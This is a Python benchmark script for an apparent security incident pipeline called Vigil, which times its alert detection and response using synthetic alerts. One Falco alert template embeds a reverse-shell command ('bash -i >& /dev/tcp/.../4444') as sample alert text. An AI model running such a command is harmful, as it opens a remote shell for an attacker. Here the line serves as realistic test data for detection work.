"""Benchmarks of Vigil on real infrastructure: detector throughput, end-to-end latency, response steps.

``python -m bench.run [--alerts N] [--rate R] [--formats native|mixed|both] [--out bench/results/latest.json]``
``python -m bench.run --only responder [--incidents 100] [--incident-steps 10] [--slow-delay 2]``

1. Detector throughput: N alerts are produced to the raw topic first, then the detector starts
   and works through the backlog; alerts/s is N over the time from the first alert row in
   ``detector_alerts`` to the N-th. With ``--formats both`` (the default) it runs twice: on
   native alerts, then on the same mix rendered in each tool's own format (``bench/formats.py``),
   and reports what reading those formats costs.
2. End to end: the five services run; alerts are published at a fixed rate while a consumer of
   the incidents topic measures, per alert, the time from its send to the incident event that
   carries it. The time for the first incident to reach the reporter's timeline as detected,
   analysed, planned and escalated is measured too.
3. Responder (``bench/responder.py``): playbook steps planned, enqueued and executed through a
   signed webhook to local receivers, with a slow receiver beside a fast one. Postgres only.

Kafka and Postgres are embedded unless KAFKA_BOOTSTRAP_SERVERS / DATABASE_URL are set. Each
benchmark gets its own database and topic prefix, both removed at the end.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import math
import os
import platform
import random
import secrets
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit, urlunsplit

import asyncpg
import httpx
from aiokafka import AIOKafkaConsumer, AIOKafkaProducer, TopicPartition
from aiokafka.admin import AIOKafkaAdminClient
from rich.console import Console
from rich.table import Table
from rich.text import Text

from bench import formats, responder
from shared.cloudevents import decode
from shared.db import create_pool, migrate
from shared.embedded import EmbeddedBroker, EmbeddedPostgres, free_port
from shared.errors import InvalidMessage
from shared.events import IncidentDetected, IncidentUpdated
from shared.settings import SERVICE_NAMES, KafkaSettings, VigilSettings
from shared.topics import ALERTS_RAW, ALL_TOPICS, INCIDENTS, TopicNames, ensure_topics

BENCH_DIR = Path(__file__).resolve().parent
PROJECT_DIR = BENCH_DIR.parent
RESULTS_DIR = BENCH_DIR / "results"
LOGS_DIR = RESULTS_DIR / "logs"
DEFAULT_OUT = RESULTS_DIR / "latest.json"

# --only's choices and the benchmark each names.
ONLY = {"throughput": "detector_throughput", "e2e": "end_to_end", "responder": "responder"}
# Reading tools' formats may cost at most this share of the detector's native throughput.
FORMATS_COST_LIMIT = 0.15

TIMELINE_TYPES = (
    "vigil.incident.detected.v1",
    "vigil.incident.analyzed.v1",
    "vigil.response.planned.v1",
    "vigil.incident.escalated.v1",
)

console = Console()


class BenchError(Exception):
    """A benchmark could not complete; the message says why (with a service's stderr if it died).

    ``partial`` holds the figures of the runs that did complete (another format mode's).
    """

    def __init__(self, message: str, *, partial: dict[str, Any] | None = None) -> None:
        super().__init__(message)
        self.partial = partial


# ---- alerts ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Template:
    weight: int
    source: str
    title: str
    description: str
    severity: str
    labels: dict[str, str] = field(default_factory=dict)
    user: bool = False
    src_ip: str | None = None  # "internal" or "external"
    dst_ip: str | None = None


# A mix like a mid-sized estate's: mostly infrastructure alerts, security findings in between.
TEMPLATES = (
    Template(
        14,
        "alertmanager",
        "HighErrorRate: {service} 5xx above 5%",
        "job={service} error ratio 0.{n} for 10m",
        "high",
        {"alertname": "HighErrorRate"},
    ),
    Template(
        14,
        "alertmanager",
        "HighLatency: {service} p99 above 2s",
        "p99 latency {n}00ms for 10m",
        "medium",
        {"alertname": "HighLatency"},
    ),
    Template(
        8,
        "alertmanager",
        "NodeFilesystemAlmostFull: / above 95%",
        "{host}: 96.{n}% used on /",
        "low",
        {"alertname": "NodeFilesystemAlmostFull"},
    ),
    Template(
        6,
        "alertmanager",
        "KubePodCrashLooping: {service}",
        "container restarted {n} times in 15m",
        "medium",
        {"alertname": "KubePodCrashLooping"},
    ),
    Template(
        10,
        "wazuh",
        "sshd: brute force trying to get access to the system",
        "Multiple authentication failures for user {user} from {src_ip}",
        "medium",
        {"rule_id": "5712"},
        user=True,
        src_ip="external",
    ),
    Template(
        4,
        "wazuh",
        "sshd: authentication success after brute force",
        "Successful login for user {user} from {src_ip} after {n} failures",
        "high",
        {"rule_id": "40112"},
        user=True,
        src_ip="external",
    ),
    Template(
        6,
        "okta",
        "Multiple failed logins for user {user}",
        "{n} failures in 5 minutes",
        "low",
        {"event_type": "user.session.start"},
        user=True,
        src_ip="external",
    ),
    Template(
        3,
        "falco",
        "Reverse shell spawned in a container",
        "bash -i >& /dev/tcp/{dst_ip}/4444 by {user}",
        "critical",
        {"rule": "Reverse shell"},
        user=True,
        dst_ip="external",
    ),
    Template(
        5,
        "suricata",
        "ET MALWARE Cobalt Strike Beacon Observed",
        "TLS to {dst_ip}, JA3 72a589da586844d7",
        "high",
        {"signature_id": "2027082"},
        src_ip="internal",
        dst_ip="external",
    ),
    Template(
        6,
        "suricata",
        "ET SCAN Nmap port scan detected",
        "SYN scan of {n}00 ports from {src_ip}",
        "low",
        {"signature_id": "2009582"},
        src_ip="external",
    ),
    Template(
        3,
        "crowdstrike",
        "Credential dumping via mimikatz detected",
        "lsass.exe accessed by {user}",
        "critical",
        {"tactic": "Credential Access"},
        user=True,
    ),
    Template(
        3,
        "guardduty",
        "Data exfiltration: unusual volume of S3 GetObject",
        "Exfiltration:S3/AnomalousBehavior by {user} from {src_ip}",
        "high",
        {"finding_type": "Exfiltration:S3/AnomalousBehavior"},
        user=True,
        src_ip="external",
    ),
    Template(
        2,
        "guardduty",
        "S3 bucket is public: exports-{n}",
        "Policy:S3/BucketAnonymousAccessGranted",
        "high",
        {"finding_type": "Policy:S3/BucketAnonymousAccessGranted"},
    ),
    Template(
        8,
        "osquery",
        "New listening port opened",
        "port {n}443 opened by /usr/bin/{service}",
        "info",
        {"query": "listening_ports"},
    ),
    Template(
        8,
        "cloudflare",
        "HTTP DDoS attack mitigated",
        "{n}0k requests/s towards {service}",
        "medium",
        {"zone": "example.com"},
    ),
)
SEVERITIES = ("info", "low", "medium", "high", "critical")
ROLES = ("web", "api", "db", "worker", "k8s-node", "cache", "bastion", "etl", "mail", "vpn")
SERVICES = ("checkout", "api-gateway", "search", "payments", "auth", "catalog", "orders", "billing")


class AlertFactory:
    """Builds native alerts over a fixed estate of hosts, deterministically for a seed."""

    def __init__(self, *, hosts: int, seed: int) -> None:
        self.rng = random.Random(seed)
        self.run = secrets.token_hex(3)
        self.seq = 0
        self.hosts = [f"{ROLES[i % len(ROLES)]}-{i:04d}" for i in range(hosts)]
        self.users = [f"user{i:03d}" for i in range(300)] + ["root", "deploy", "admin", "etl-svc"]
        self.templates = TEMPLATES
        self.weights = [t.weight for t in TEMPLATES]

    def _ip(self, kind: str) -> str:
        r = self.rng
        if kind == "internal":
            return f"10.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"
        return f"{r.choice((198, 203, 185, 45))}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def make(self) -> tuple[bytes, dict[str, Any]]:
        """Return (Kafka key, native alert body without its time) for one new alert."""
        r = self.rng
        template = r.choices(self.templates, self.weights)[0]
        self.seq += 1
        host = r.choice(self.hosts)
        values = {
            "host": host,
            "service": r.choice(SERVICES),
            "n": str(r.randrange(1, 10)),
            "user": r.choice(self.users) if template.user else "",
            "src_ip": self._ip(template.src_ip) if template.src_ip else "",
            "dst_ip": self._ip(template.dst_ip) if template.dst_ip else "",
        }
        severity = template.severity if r.random() < 0.85 else r.choice(SEVERITIES)
        body: dict[str, Any] = {
            "id": f"bench-{self.run}-{self.seq:08d}",
            "source": template.source,
            "title": template.title.format(**values),
            "description": template.description.format(**values),
            "severity": severity,
            "host": host,
            "labels": {**template.labels, "env": "prod"},
        }
        for name in ("user", "src_ip", "dst_ip"):
            if values[name]:
                body[name] = values[name]
        return f"host:{host}".encode(), body


def check_factory(factory: AlertFactory, mode: str, count: int = 500) -> dict[str, int]:
    """Read a sample back through the detector's adapters, so a bad generator fails before the run.

    Return how many of the sample each format took.
    """
    sample = [factory.make()[1] for _ in range(count)]
    try:
        return dict(formats.check(sample, datetime.now(UTC), mode))
    except formats.RenderError as exc:
        raise BenchError(f"the {mode} alert generator is broken: {exc}") from exc


# ---- infrastructure ----------------------------------------------------------------------------


@dataclass
class Infrastructure:
    kafka: KafkaSettings
    admin_url: str
    kafka_kind: str
    postgres_kind: str


@contextlib.contextmanager
def infrastructure(*, kafka_needed: bool = True) -> Iterator[Infrastructure]:
    """The broker and Postgres from the environment, or embedded ones stopped on exit."""
    kafka = KafkaSettings()
    with contextlib.ExitStack() as stack:
        if not kafka_needed:
            kafka_kind = "not used"
        elif os.environ.get("KAFKA_BOOTSTRAP_SERVERS"):
            kafka_kind = "external"
        else:
            broker = EmbeddedBroker(log_path=LOGS_DIR / "broker.log")
            stack.callback(broker.stop)
            broker.start()
            kafka = kafka.model_copy(update={"bootstrap_servers": broker.bootstrap_servers})
            kafka_kind = "embedded (Tansu, in memory)"
        if url := os.environ.get("DATABASE_URL"):
            admin_url, postgres_kind = url, "external"
        else:
            tmp = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="vigil-bench-")))
            postgres = EmbeddedPostgres(tmp / "pg")
            stack.callback(postgres.stop)
            postgres.start()
            admin_url, postgres_kind = postgres.url("postgres"), "embedded"
        yield Infrastructure(kafka=kafka, admin_url=admin_url, kafka_kind=kafka_kind, postgres_kind=postgres_kind)


@dataclass(frozen=True)
class Stage:
    """One isolated run: its own database and topic prefix."""

    label: str
    database_url: str
    names: TopicNames


def with_database(url: str, database: str) -> str:
    return urlunsplit(urlsplit(url)._replace(path=f"/{database}"))


@contextlib.asynccontextmanager
async def fresh_database(infra: Infrastructure, token: str) -> AsyncIterator[str]:
    """Create and migrate a database ``vigil_bench_<token>``; yield its URL; drop it afterwards."""
    database = f"vigil_bench_{token}"
    admin = await asyncpg.connect(infra.admin_url)
    try:
        await admin.execute(f'CREATE DATABASE "{database}"')
    finally:
        await admin.close()
    url = with_database(infra.admin_url, database)
    try:
        pool = await create_pool(url, max_size=1)
        try:
            await migrate(pool)
        finally:
            await pool.close()
        yield url
    finally:
        admin = await asyncpg.connect(infra.admin_url)
        try:
            await admin.execute(f'DROP DATABASE IF EXISTS "{database}" WITH (FORCE)')
        finally:
            await admin.close()


@contextlib.asynccontextmanager
async def fresh_stage(infra: Infrastructure, label: str) -> AsyncIterator[Stage]:
    """Create a database and topics for one benchmark; drop and delete them afterwards."""
    token = secrets.token_hex(4)
    names = TopicNames(f"bench-{token}.")
    async with fresh_database(infra, token) as url:
        stage = Stage(label=label, database_url=url, names=names)
        try:
            await ensure_topics(infra.kafka, names)
            yield stage
        finally:
            with contextlib.suppress(Exception):
                await asyncio.wait_for(delete_topics(infra.kafka, names), 15)


async def delete_topics(kafka: KafkaSettings, names: TopicNames) -> None:
    admin = AIOKafkaAdminClient(**kafka.client_options())
    await admin.start()
    try:
        await admin.delete_topics([names(t) for t in ALL_TOPICS])
    finally:
        await admin.close()


def make_producer(kafka: KafkaSettings) -> AIOKafkaProducer:
    return AIOKafkaProducer(
        acks="all",
        enable_idempotence=False,
        linger_ms=5,
        max_batch_size=1024 * 1024,
        **kafka.client_options(),
    )


# ---- service processes -------------------------------------------------------------------------

_PROCESSES: list[ServiceProcess] = []


class ServiceProcess:
    """One Vigil service run as ``python -m services.<name>``, its stderr kept in a file."""

    def __init__(self, name: str, stage: Stage, infra: Infrastructure) -> None:
        self.name = name
        self.port = free_port()
        self.log_path = LOGS_DIR / f"{stage.label}-{name}.stderr.log"
        self.env = {
            **os.environ,
            "KAFKA_BOOTSTRAP_SERVERS": infra.kafka.bootstrap_servers,
            "DATABASE_URL": stage.database_url,
            "VIGIL_TOPIC_PREFIX": stage.names.prefix,
            "VIGIL_HTTP_PORT": str(self.port),
            "VIGIL_LOG_LEVEL": "WARNING",
            "VIGIL_SESSION_TIMEOUT_MS": "6000",
            "VIGIL_REBALANCE_TIMEOUT_MS": "3000",
        }
        self.process: subprocess.Popen[bytes] | None = None

    def start(self) -> None:
        with open(self.log_path, "wb") as log:
            self.process = subprocess.Popen(
                [sys.executable, "-m", f"services.{self.name}"],
                cwd=PROJECT_DIR,
                env=self.env,
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )
        _PROCESSES.append(self)

    @property
    def returncode(self) -> int | None:
        return None if self.process is None else self.process.poll()

    def check_alive(self) -> None:
        """Raise BenchError with the end of the service's stderr if it has exited."""
        code = self.returncode
        if code is not None:
            raise BenchError(f"{self.name} exited with code {code}; end of {self.log_path}:\n{self.stderr_tail()}")

    def cpu_seconds(self) -> float | None:
        """User + system CPU time the service has used so far (Linux only)."""
        if self.process is None:
            return None
        try:
            fields = Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            return None
        return round((int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK"), 2)

    def stderr_tail(self, lines: int = 60) -> str:
        try:
            text = self.log_path.read_text(errors="replace")
        except OSError:
            return "(no stderr captured)"
        return "\n".join(text.splitlines()[-lines:]) or "(stderr empty)"

    async def stop(self, timeout_s: float = 20.0) -> None:
        """SIGTERM (the service drains and commits), then SIGKILL its whole process group."""
        process = self.process
        if process is None:
            return
        if process.poll() is None:
            with contextlib.suppress(ProcessLookupError):
                process.send_signal(signal.SIGTERM)
            with contextlib.suppress(subprocess.TimeoutExpired):
                await asyncio.to_thread(process.wait, timeout_s)
        self.kill()

    def kill(self) -> None:
        process = self.process
        if process is None:
            return
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.killpg(process.pid, signal.SIGKILL)  # the service and anything it started
        with contextlib.suppress(subprocess.TimeoutExpired):
            process.wait(5)


def kill_stragglers() -> None:
    for service in _PROCESSES:
        service.kill()


async def wait_ready(service: ServiceProcess, timeout_s: float) -> float:
    """Poll the service's /readyz until it answers 200; return the seconds it took."""
    started = time.monotonic()
    url = f"http://127.0.0.1:{service.port}/readyz"
    async with httpx.AsyncClient(timeout=2.0) as client:
        while True:
            service.check_alive()
            with contextlib.suppress(httpx.HTTPError):
                if (await client.get(url)).status_code == 200:
                    return time.monotonic() - started
            if time.monotonic() - started > timeout_s:
                raise BenchError(
                    f"{service.name} not ready within {timeout_s:.0f}s; end of its stderr:\n{service.stderr_tail()}"
                )
            await asyncio.sleep(0.2)


# ---- benchmark 1: detector throughput ---------------------------------------------------------


@dataclass
class Backlog:
    """What was produced for the throughput benchmark."""

    seconds: float
    bytes: int
    formats: dict[str, int]


async def produce_backlog(
    infra: Infrastructure, topic: str, factory: AlertFactory, count: int, *, mode: str
) -> Backlog:
    """Produce ``count`` alerts in batches, each in its ``mode``'s format; say how long it took and what went."""
    producer = make_producer(infra.kafka)
    await producer.start()
    started = time.monotonic()
    size = 0
    published: dict[str, int] = {}
    try:
        chunk = 5000
        for offset in range(0, count, chunk):
            futures = []
            for _ in range(min(chunk, count - offset)):
                kafka_key, body = factory.make()
                _key, value = formats.encode(body, datetime.now(UTC), mode)
                name = formats.format_for(body, mode).name
                published[name] = published.get(name, 0) + 1
                size += len(value)
                futures.append(await producer.send(topic, key=kafka_key, value=value))
            await asyncio.gather(*futures)
    finally:
        await producer.stop()
    return Backlog(time.monotonic() - started, size, dict(sorted(published.items(), key=lambda f: -f[1])))


def modes(args: argparse.Namespace, *, default: str) -> list[str]:
    """The alert formats a benchmark runs with: ``--formats``, else its own default."""
    chosen: str = args.formats or default
    return list(formats.MODES) if chosen == "both" else [chosen]


async def bench_detector(infra: Infrastructure, args: argparse.Namespace) -> dict[str, Any]:
    """The throughput benchmark once per format mode, and how mixed formats compare with native ones."""
    results: dict[str, Any] = {}
    for mode in modes(args, default="both"):
        console.log(f"detector throughput on {mode} alerts")
        try:
            results[mode] = await bench_detector_once(infra, args, mode)
        except BenchError as exc:
            raise BenchError(f"{mode} alerts: {exc}", partial=results) from exc
    if "native" in results and "mixed" in results:
        results["mixed_vs_native"] = compare(results["native"], results["mixed"])
    return results


def compare(native: dict[str, Any], mixed: dict[str, Any]) -> dict[str, Any]:
    """Mixed formats' throughput as a share of native throughput, and the CPU each alert took."""
    ratio = mixed["alerts_per_s"] / native["alerts_per_s"]
    return {
        "native_alerts_per_s": native["alerts_per_s"],
        "mixed_alerts_per_s": mixed["alerts_per_s"],
        "throughput_ratio": round(ratio, 3),
        "formats_cost_pct": round((1 - ratio) * 100, 1),
        "limit_pct": round(FORMATS_COST_LIMIT * 100, 1),
        "within_limit": 1 - ratio <= FORMATS_COST_LIMIT,
        "native_cpu_us_per_alert": native["detector_cpu_us_per_alert"],
        "mixed_cpu_us_per_alert": mixed["detector_cpu_us_per_alert"],
    }


async def bench_detector_once(infra: Infrastructure, args: argparse.Namespace, mode: str) -> dict[str, Any]:
    count: int = args.alerts
    async with fresh_stage(infra, f"throughput-{mode}") as stage:
        factory = AlertFactory(hosts=args.hosts, seed=args.seed)
        sample = check_factory(AlertFactory(hosts=args.hosts, seed=args.seed + 1), mode)
        console.log(f"{mode} generator checked: a sample of {sum(sample.values())} reads back as {sample}")
        with console.status(f"producing {count:,} {mode} alerts to {stage.names(ALERTS_RAW)}"):
            backlog = await produce_backlog(infra, stage.names(ALERTS_RAW), factory, count, mode=mode)
        produce_s = backlog.seconds
        console.log(
            f"produced {count:,} alerts ({backlog.bytes / count:,.0f} bytes each on average) in {produce_s:.1f}s "
            f"({count / produce_s:,.0f}/s)"
        )

        conn = await asyncpg.connect(stage.database_url)
        detector = ServiceProcess("detector", stage, infra)
        try:
            spawned = time.monotonic()
            detector.start()
            first_at: float | None = None
            cpu_at_first: float | None = None
            done_at: float | None = None
            last_count, last_change = 0, spawned
            with console.status("detector starting") as status:
                while done_at is None:
                    detector.check_alive()
                    now = time.monotonic()
                    if first_at is None:
                        if await conn.fetchval("SELECT EXISTS (SELECT 1 FROM detector_alerts)"):
                            first_at = time.monotonic()
                            cpu_at_first = detector.cpu_seconds()
                            last_change = first_at
                        await asyncio.sleep(0.05)
                    else:
                        stored = int(await conn.fetchval("SELECT count(*) FROM detector_alerts"))
                        if stored >= count:
                            done_at = time.monotonic()
                            break
                        if stored != last_count:
                            last_count, last_change = stored, now
                        rate = stored / max(now - first_at, 1e-9)
                        status.update(f"detector: {stored:,}/{count:,} alerts stored ({rate:,.0f}/s)")
                        await asyncio.sleep(0.2)
                    if now - last_change > args.stall:
                        raise BenchError(
                            f"detector stalled: {last_count:,}/{count:,} alerts stored, no progress for "
                            f"{args.stall:.0f}s; end of its stderr:\n{detector.stderr_tail()}"
                        )
                    if now - spawned > args.timeout:
                        raise BenchError(
                            f"detector did not store {count:,} alerts within {args.timeout:.0f}s "
                            f"({last_count:,} stored); end of its stderr:\n{detector.stderr_tail()}"
                        )
            assert first_at is not None
            incidents = int(await conn.fetchval("SELECT count(*) FROM detector_incidents"))
            events = int(await conn.fetchval("SELECT count(*) FROM outbox WHERE service = 'detector'"))
            # The relay publishes behind the consume loop; wait (briefly) for it to catch up.
            drained_s: float | None = None
            with console.status("waiting for the detector's outbox relay"):
                while time.monotonic() - done_at < 60:
                    detector.check_alive()
                    unsent = int(
                        await conn.fetchval(
                            "SELECT count(*) FROM outbox WHERE service = 'detector' AND sent_at IS NULL"
                        )
                    )
                    if unsent == 0:
                        drained_s = time.monotonic() - done_at
                        break
                    await asyncio.sleep(0.2)
            cpu_s = detector.cpu_seconds()
        finally:
            await detector.stop()
            await conn.close()

    elapsed = done_at - first_at
    # CPU per alert from the first stored alert on: start-up (imports, joining the group) left out.
    processing_cpu_s = None if cpu_s is None or cpu_at_first is None else cpu_s - cpu_at_first
    return {
        "formats": mode,
        "alerts": count,
        "records_by_format": backlog.formats,
        "mean_record_bytes": round(backlog.bytes / count, 1),
        "produce_s": round(produce_s, 3),
        "produce_alerts_per_s": round(count / produce_s, 1),
        "startup_to_first_row_s": round(first_at - spawned, 3),
        "processing_s": round(elapsed, 3),
        "alerts_per_s": round(count / elapsed, 1),
        "incidents_opened": incidents,
        "outbox_events": events,
        "alerts_per_event": round(count / events, 2) if events else None,
        "outbox_drained_after_s": None if drained_s is None else round(drained_s, 3),
        "detector_cpu_s": cpu_s,
        "detector_cpu_us_per_alert": None if processing_cpu_s is None else round(processing_cpu_s / count * 1e6, 1),
    }


# ---- benchmark 2: end to end -------------------------------------------------------------------


@dataclass
class Collected:
    """What the incidents-topic consumer saw."""

    latencies: dict[str, float] = field(default_factory=dict)  # alert key -> seconds to its incident event
    events: int = 0
    incidents: set[str] = field(default_factory=set)
    last_receive: float = 0.0
    first_incident: asyncio.Future[str] | None = None


async def collect(consumer: AIOKafkaConsumer, sent: dict[str, float], first_key: list[str], out: Collected) -> None:
    """Record, for every alert key in an incident event's new_alerts, receive time - send time."""
    while True:
        batches = await consumer.getmany(timeout_ms=100, max_records=5000)
        received = time.time()
        for records in batches.values():
            for record in records:
                try:
                    event = decode(record.value, record.headers)
                except InvalidMessage:
                    continue
                if not isinstance(event, IncidentDetected | IncidentUpdated):
                    continue
                out.events += 1
                if isinstance(event, IncidentDetected):
                    out.incidents.add(event.subject)
                for alert in event.data.new_alerts:
                    sent_at = sent.get(alert.key)
                    if sent_at is None or alert.key in out.latencies:
                        continue
                    out.latencies[alert.key] = received - sent_at
                    out.last_receive = received
                    if first_key and alert.key == first_key[0] and out.first_incident and not out.first_incident.done():
                        out.first_incident.set_result(event.subject)


async def watch_timeline(database_url: str, incident: Awaitable[str]) -> tuple[str, float, dict[str, float]]:
    """Wait until the reporter's timeline holds every TIMELINE_TYPES entry of the incident.

    Return the incident id, the wall-clock time it became complete, and each entry's event time.
    """
    incident_id = await incident
    conn = await asyncpg.connect(database_url)
    try:
        while True:
            rows = await conn.fetch(
                "SELECT type, min(time) AS time FROM reporter_timeline WHERE incident_id = $1 GROUP BY type",
                incident_id,
            )
            found = {row["type"]: row["time"].timestamp() for row in rows}
            if all(t in found for t in TIMELINE_TYPES):
                return incident_id, time.time(), found
            await asyncio.sleep(0.05)
    finally:
        await conn.close()


async def publish_at_rate(
    producer: AIOKafkaProducer,
    topic: str,
    factory: AlertFactory,
    *,
    rate: float,
    duration_s: float,
    sent: dict[str, float],
    on_first: Callable[[str], None],
    mode: str,
) -> tuple[float, float]:
    """Publish rate*duration alerts paced by the clock; return (first send, last send) wall times."""
    total = max(1, int(rate * duration_s))
    started = time.monotonic()
    futures = []
    first_send = last_send = 0.0
    index = 0
    while index < total:
        due = min(total, int((time.monotonic() - started) * rate) + 1)
        while index < due:
            kafka_key, body = factory.make()
            now = datetime.now(UTC)
            key, value = formats.encode(body, now, mode)
            sent[key] = last_send = now.timestamp()
            if index == 0:
                first_send = last_send
                on_first(key)
            futures.append(await producer.send(topic, key=kafka_key, value=value))
            index += 1
        await asyncio.sleep(0.005)
    await asyncio.gather(*futures)
    return first_send, last_send


def percentile(sorted_values: Sequence[float], p: float) -> float:
    """Nearest-rank percentile of an ascending list."""
    rank = max(1, math.ceil(p / 100 * len(sorted_values)))
    return sorted_values[rank - 1]


async def bench_end_to_end(infra: Infrastructure, args: argparse.Namespace) -> dict[str, Any]:
    """The end-to-end benchmark once per format mode (native only unless ``--formats`` says)."""
    results: dict[str, Any] = {}
    for mode in modes(args, default="native"):
        console.log(f"end to end on {mode} alerts")
        try:
            results[mode] = await bench_end_to_end_once(infra, args, mode)
        except BenchError as exc:
            raise BenchError(f"{mode} alerts: {exc}", partial=results) from exc
    return results


async def bench_end_to_end_once(infra: Infrastructure, args: argparse.Namespace, mode: str) -> dict[str, Any]:
    check_factory(AlertFactory(hosts=args.hosts, seed=args.seed + 1), mode)
    async with fresh_stage(infra, f"e2e-{mode}") as stage:
        services = [ServiceProcess(name, stage, infra) for name in SERVICE_NAMES]
        consumer: AIOKafkaConsumer | None = None
        producer: AIOKafkaProducer | None = None
        tasks: list[asyncio.Task[Any]] = []
        try:
            started = time.monotonic()
            for service in services:
                service.start()
            with console.status("starting the five services"):
                ready_s = await asyncio.gather(*(wait_ready(s, args.ready_timeout) for s in services))
            console.log(f"all services ready after {time.monotonic() - started:.1f}s")

            topic = stage.names(INCIDENTS)
            consumer = AIOKafkaConsumer(
                group_id=None, enable_auto_commit=False, fetch_max_wait_ms=50, **infra.kafka.client_options()
            )
            await consumer.start()
            partitions = [TopicPartition(topic, p) for p in range(INCIDENTS.partitions)]
            consumer.assign(partitions)
            await consumer.seek_to_end(*partitions)
            for tp in partitions:
                await consumer.position(tp)  # resolve "end" now, before the first alert is sent

            producer = make_producer(infra.kafka)
            await producer.start()

            sent: dict[str, float] = {}
            bench_cpu_started = time.process_time()
            collected = Collected(first_incident=asyncio.get_running_loop().create_future())
            first_key: list[str] = []
            factory = AlertFactory(hosts=args.hosts, seed=args.seed)

            publisher = asyncio.create_task(
                publish_at_rate(
                    producer,
                    stage.names(ALERTS_RAW),
                    factory,
                    rate=args.rate,
                    duration_s=args.duration,
                    sent=sent,
                    on_first=first_key.append,
                    mode=mode,
                )
            )
            tasks.append(publisher)
            tasks.append(asyncio.create_task(collect(consumer, sent, first_key, collected)))
            assert collected.first_incident is not None
            timeline = asyncio.create_task(watch_timeline(stage.database_url, collected.first_incident))
            tasks.append(timeline)

            with console.status(f"publishing {args.rate:,.0f} alerts/s for {args.duration:.0f}s") as status:
                while not publisher.done():
                    for service in services:
                        service.check_alive()
                    status.update(
                        f"publishing {args.rate:,.0f} alerts/s: {len(sent):,} sent, "
                        f"{len(collected.latencies):,} seen in incident events"
                    )
                    await asyncio.sleep(0.25)
                first_send, last_send = publisher.result()

                # Drain: wait for the incident events of everything sent (and the first incident's timeline).
                last_seen, last_progress = len(collected.latencies), time.monotonic()
                drain_started = time.monotonic()
                while True:
                    for service in services:
                        service.check_alive()
                    seen = len(collected.latencies)
                    if seen != last_seen:
                        last_seen, last_progress = seen, time.monotonic()
                    if seen >= len(sent) and timeline.done():
                        break
                    if time.monotonic() - last_progress > args.drain_idle:
                        break
                    if time.monotonic() - drain_started > args.timeout:
                        break
                    status.update(f"draining: {seen:,}/{len(sent):,} alerts seen in incident events")
                    await asyncio.sleep(0.1)
                if not timeline.done():
                    with contextlib.suppress(TimeoutError):
                        await asyncio.wait_for(asyncio.shield(timeline), 30)
            cpu_s = {s.name: s.cpu_seconds() for s in services}
            cpu_s["bench"] = round(time.process_time() - bench_cpu_started, 2)
        finally:
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
            if consumer is not None:
                await consumer.stop()
            if producer is not None:
                await producer.stop()
            await asyncio.gather(*(s.stop() for s in services))

    latencies = sorted(collected.latencies.values())
    result: dict[str, Any] = {
        "formats": mode,
        "target_rate_per_s": args.rate,
        "duration_s": args.duration,
        "alerts_sent": len(sent),
        "publish_rate_per_s": round((len(sent) - 1) / (last_send - first_send), 1) if last_send > first_send else None,
        "alerts_seen": len(latencies),
        "alerts_missing": len(sent) - len(latencies),
        "incident_events": collected.events,
        "incidents_opened": len(collected.incidents),
        "services_ready_s": {s.name: round(r, 3) for s, r in zip(services, ready_s, strict=True)},
        "cpu_s": cpu_s,
    }
    if latencies:
        elapsed = collected.last_receive - first_send
        result.update(
            {
                "latency_ms": {
                    "p50": round(percentile(latencies, 50) * 1000, 1),
                    "p95": round(percentile(latencies, 95) * 1000, 1),
                    "p99": round(percentile(latencies, 99) * 1000, 1),
                    "max": round(latencies[-1] * 1000, 1),
                    "mean": round(sum(latencies) / len(latencies) * 1000, 1),
                },
                "elapsed_s": round(elapsed, 3),
                "throughput_per_s": round(len(latencies) / elapsed, 1) if elapsed > 0 else None,
                "last_event_after_last_send_s": round(collected.last_receive - last_send, 3),
            }
        )
    if timeline.done() and not timeline.cancelled() and timeline.exception() is None:
        incident_id, complete_at, found = timeline.result()
        origin = sent[first_key[0]]
        result["first_incident"] = {
            "incident_id": incident_id,
            "timeline_complete_s": round(complete_at - origin, 3),
            "event_time_after_first_alert_s": {t: round(found[t] - origin, 3) for t in TIMELINE_TYPES},
        }
    else:
        result["first_incident"] = None
    return result


# ---- benchmark 3: the responder executing playbook steps ---------------------------------------


async def bench_responder(infra: Infrastructure, args: argparse.Namespace) -> dict[str, Any]:
    """Planning and dispatch, steps executed per second, and a slow target (``bench/responder.py``)."""
    try:
        return await responder.bench_responder(args, lambda: fresh_database(infra, secrets.token_hex(4)))
    except responder.Failed as exc:
        raise BenchError(str(exc), partial=exc.partial) from exc


# ---- report ------------------------------------------------------------------------------------


def machine_info() -> dict[str, Any]:
    return {
        "cpu_count": os.cpu_count(),
        "python": platform.python_version(),
        "implementation": platform.python_implementation(),
        "platform": platform.platform(),
        "machine": platform.machine(),
    }


def _fmt(value: Any, unit: str = "") -> str:
    if value is None:
        return "-"
    if isinstance(value, float):
        return f"{value:,.1f}{unit}" if abs(value) >= 100 else f"{value:,.3g}{unit}"
    if isinstance(value, int):
        return f"{value:,}{unit}"
    return f"{value}{unit}"


def print_report(results: dict[str, Any]) -> None:
    table = Table(title="Vigil benchmark", show_lines=False)
    table.add_column("Figure")
    table.add_column("Value", justify="right")
    for mode, throughput in results.get("detector_throughput", {}).items():
        if mode in formats.MODES:
            add_throughput(table, mode, throughput)
    comparison = results.get("detector_throughput", {}).get("mixed_vs_native")
    if comparison:
        table.add_section()
        table.add_row("[bold]Mixed formats against native[/bold]", "")
        table.add_row(
            "detector throughput mixed / native",
            f"{comparison['mixed_alerts_per_s']:,.0f} / {comparison['native_alerts_per_s']:,.0f} alerts/s "
            f"= {comparison['throughput_ratio']:.2f}",
        )
        verdict = "[green]within[/green]" if comparison["within_limit"] else "[red]over[/red]"
        table.add_row(
            "throughput the formats cost",
